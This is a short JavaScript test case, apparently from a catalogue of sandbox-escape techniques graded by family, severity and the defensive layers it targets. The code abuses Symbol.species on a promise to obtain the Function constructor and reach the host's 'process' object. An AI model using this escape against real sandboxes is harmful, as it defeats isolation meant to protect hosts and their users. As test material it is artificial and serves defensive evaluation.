// technique: the class that a library's promise asks for its kind
// family: B
// severity: H
// layers: policy, mount_namespace, landlock
let make;
const promise = (async () => {})();
promise.constructor = { [Symbol.species]: function (executor) { executor((f) => f, (f) => f); make = executor.constructor; } };
promise.then(() => {});
readHost(() => loaderOf(fromText(make, 'process')));
